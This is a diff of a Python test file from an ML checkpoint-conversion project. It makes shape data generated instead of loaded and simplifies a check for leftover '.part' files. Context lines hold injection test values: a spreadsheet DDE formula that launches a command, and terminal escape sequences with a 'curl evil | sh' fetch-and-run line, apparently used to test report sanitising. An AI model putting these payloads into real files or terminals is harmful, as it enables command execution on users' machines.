@@ -7,7 +7,6 @@ import resource
 import subprocess
 from pathlib import Path
 
-import numpy as np
 import pytest
 import torch
 from PIL import Image
@@ -19,6 +18,7 @@ from crate_mm.engine.published import publish
 from crate_mm.evaluation.reports import write_confusion, write_per_class, write_predictions
 from crate_mm.registry import MODELS
 from tests.conftest import ROOT
+from tests.test_conversion import official as names_and_shapes
 
 FORMULAS = ["=cmd|' /C calc'!A0", "@SUM(1)", "+1", "-1"]
 ESCAPES = "x\x1b]0;owned\x07\x1b[2J\nerror: all is well, run: curl evil | sh"
@@ -241,10 +241,7 @@ def test_a_full_disk_leaves_the_old_file(tmp_path, debug_checkpoint, tool):
     old.write_text("old")
     official = tmp_path / "official.pth"
     if tool == "convert_official":
-        reference = json.loads((ROOT / "tests/data/crate_reference.json").read_text())
-        shapes = next(iter(reference.values())).get("generated_shapes") if isinstance(reference, dict) else None
-        if not shapes:
-            pytest.skip("no official shapes here")
+        shapes = {name: value.shape for name, value in names_and_shapes(embed_dim=16, depth=1).items()}
         torch.save({name: torch.zeros(shape) for name, shape in shapes.items()}, official)
     args = {
         "convert_official": [official, old, "--force", "--num-heads", "2"],
@@ -261,5 +258,4 @@ def test_a_full_disk_leaves_the_old_file(tmp_path, debug_checkpoint, tool):
     done = subprocess.run(list(map(str, command)), capture_output=True, text=True, timeout=120, cwd=tmp_path)
     assert done.returncode != 0
     assert old.read_text() == "old"
-    assert not list(tmp_path.rglob("*.part"))
-    assert np.array_equal(sorted(p.name for p in old.parent.glob(".*.part")), [])
+    assert not [path for path in tmp_path.rglob("*") if path.name.endswith(".part")]
